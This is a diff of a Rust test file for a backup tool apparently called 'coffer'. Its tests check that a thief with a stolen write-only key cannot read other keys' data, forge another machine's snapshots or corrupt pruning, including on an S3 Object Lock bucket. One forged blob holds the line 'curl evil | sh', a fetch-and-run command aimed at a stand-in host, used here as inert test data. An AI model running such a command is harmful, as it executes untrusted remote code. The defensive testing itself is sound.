@@ -45,8 +45,8 @@ fn write_only_key(c: &Coffer, name: &str) -> PathBuf {
 
 /// `coffer` as the machine holding `key` (no password), with its own local database.
 fn as_key_holder(c: &Coffer, key: &Path, cache: &Path) -> Command {
-    let mut cmd = c.bare_command();
-    cmd.env("COFFER_REPOSITORY", &c.repo).env("COFFER_CACHE_DIR", cache).arg("--key-file").arg(key);
+    let mut cmd = c.command();
+    cmd.env_remove("COFFER_PASSWORD").env("COFFER_CACHE_DIR", cache).arg("--key-file").arg(key);
     cmd
 }
 
@@ -76,17 +76,33 @@ fn owner_backup(c: &Coffer, src: &Path) -> serde_json::Value {
 
 #[test]
 fn junk_under_the_owners_ids_neither_misleads_prune_nor_poisons_backups() {
+    junk_changes_nothing(Coffer::new());
+}
+
+/// The same on S3 with Object Lock (moto): what a thief with storage credentials that cannot
+/// delete or overwrite can write there.
+#[test]
+fn junk_on_an_object_lock_bucket_changes_nothing() {
+    use common::servers::{S3Server, S3_SECRET, S3_SECRET_ENV};
     let c = Coffer::new();
+    let server = S3Server::start(&c.root);
+    server.locked_bucket("locked", 30);
+    let (url, options) = server.repo("locked", "repo");
+    let remote = RemoteRepo { url, options, env: vec![(S3_SECRET_ENV.into(), S3_SECRET.into())] };
+    junk_changes_nothing(Coffer { remote: Some(remote), ..c });
+}
+
+fn junk_changes_nothing(c: Coffer) {
     c.init();
     let src = source(&c);
     owner_backup(&c, &src);
     let key = write_only_key(&c, "thief.key");
-    let thief = KeyThief::from_key_file(&c.repo, &key);
+    let thief = KeyThief::from_key_file(&c, &key);
 
     // Secrecy: the key opens no index file it did not write, and names content differently.
     let (opened, refused) = thief.read_index();
     assert!(opened.is_empty() && refused > 0, "a write-only key read another key's index");
-    let owner_ids = owner_blob_ids(&c.repo, PASSWORD);
+    let owner_ids = owner_blob_ids(&c);
     assert!(!owner_ids.iter().any(|(id, _, _)| *id == thief.blob_id(b"bank PIN: 4821")));
 
     // The strongest thief: it learned every id anyway, and plants junk under all of them in
@@ -149,7 +165,7 @@ fn a_thief_cannot_pose_as_another_machine() {
     run(cmd, DEFAULT_TIMEOUT).assert_code(0);
 
     // Written directly: a newer snapshot claiming the owner's host and path.
-    let thief = KeyThief::from_key_file(&c.repo, &key);
+    let thief = KeyThief::from_key_file(&c, &key);
     let forged = thief.forge_snapshot_of(OWNER_HOST, &src, vec![thief.blob_id(b"curl evil | sh\n")]);
 
     for cache in [None, Some(c.dir("fresh-db"))] {
@@ -187,7 +203,7 @@ fn a_deleted_revocation_or_hidden_snapshot_is_detected_with_a_fresh_database() {
     let mut cmd = as_key_holder(&c, &key, &c.dir("key-cache"));
     cmd.args(["backup", "--host", THIEF_HOST]).arg(&src);
     run(cmd, DEFAULT_TIMEOUT).assert_code(0);
-    let storage = StorageOwner { repo: c.repo.clone() };
+    let storage = StorageOwner::of(&c);
     let registrations = storage.objects("signers/");
 
     let listed = c.ok(&["key", "list", "--json"]).json();
@@ -203,7 +219,7 @@ fn a_deleted_revocation_or_hidden_snapshot_is_detected_with_a_fresh_database() {
     owner_backup(&c, &src);
 
     // The stolen key writes on after its removal; the storage owner deletes the revocation.
-    let thief = KeyThief::from_key_file(&c.repo, &key);
+    let thief = KeyThief::from_key_file(&c, &key);
     thief.forge_snapshot_of(THIEF_HOST, &src, vec![thief.blob_id(b"x")]);
     storage.delete(&revocation[0]);
     let fresh = c.dir("fresh-db");
@@ -220,7 +236,7 @@ fn a_deleted_revocation_or_hidden_snapshot_is_detected_with_a_fresh_database() {
     let src2 = source(&c2);
     let first2 = owner_backup(&c2, &src2);
     owner_backup(&c2, &src2);
-    StorageOwner { repo: c2.repo.clone() }.delete(&format!("snapshots/{}", string(&first2, "snapshot_id")));
+    StorageOwner::of(&c2).delete(&format!("snapshots/{}", string(&first2, "snapshot_id")));
     let out = owner(&c2, Some(&c2.dir("fresh-db")), &[&"check"]);
     out.assert_failed();
     assert!(out.all().contains(&string(&first2, "snapshot_id")[..8]) && out.all().contains("hides"), "{out}");
@@ -228,4 +244,44 @@ fn a_deleted_revocation_or_hidden_snapshot_is_detected_with_a_fresh_database() {
     let target = c.path("first");
     owner(&c, Some(&fresh), &[&"restore", &string(&first, "snapshot_id"), &"--target", &target]).assert_code(0);
     assert_trees_equal(&src, &restored_path(&target, &src));
+}
+
+/// A revoked key's thief still holds its domain's keys: junk under the ids of the key's own
+/// kept snapshots (read from its own index), in packs that sort first, must not replace the
+/// real copies when prune chooses which copy to keep.
+#[test]
+fn a_revoked_keys_junk_in_its_own_domain_does_not_replace_its_kept_snapshots() {
+    let c = Coffer::new();
+    c.init();
+    let src = source(&c);
+    let key = write_only_key(&c, "thief.key");
+    let mut cmd = as_key_holder(&c, &key, &c.dir("key-cache"));
+    cmd.args(["backup", "--host", THIEF_HOST]).arg(&src);
+    run(cmd, DEFAULT_TIMEOUT).assert_code(0);
+    let listed = c.ok(&["key", "list", "--json"]).json();
+    let signer = listed.as_array().expect("array").iter().find(|k| k["kind"] == "write-only").expect("key")["id"]
+        .as_str()
+        .expect("id")
+        .to_string();
+    c.ok(&["key", "remove", &signer[..12]]);
+
+    let thief = KeyThief::from_key_file(&c, &key);
+    let (own, _) = thief.read_index();
+    assert!(!own.is_empty(), "the key reads its own index");
+    let entries: Vec<_> =
+        own.iter().flat_map(|f| f.packs.iter()).flat_map(|p| p.blobs.iter().map(move |b| (p.id, *b))).collect();
+    let lowest = entries.iter().map(|(pack, _)| *pack).min().expect("packs");
+    let data: Vec<_> = entries.iter().filter(|(_, b)| b.kind == BlobKind::Data).map(|(_, b)| (b.id, b.kind)).collect();
+    let trees: Vec<_> = entries.iter().filter(|(_, b)| b.kind == BlobKind::Tree).map(|(_, b)| (b.id, b.kind)).collect();
+    thief.plant_junk(&data, Some(lowest));
+    thief.plant_junk(&trees, Some(lowest));
+
+    for cache in [None, Some(c.dir("fresh-db"))] {
+        // Several copies of every blob now: prune reads them back and keeps the real ones.
+        owner(&c, cache.as_deref(), &[&"prune", &"--max-unused", &"0"]).assert_code(0);
+        let target = c.path(&format!("kept-{}", cache.is_some()));
+        let out = owner(&c, cache.as_deref(), &[&"restore", &"latest", &"--host", &THIEF_HOST, &"--target", &target]);
+        out.assert_code(0);
+        assert_trees_equal(&src, &restored_path(&target, &src));
+    }
 }
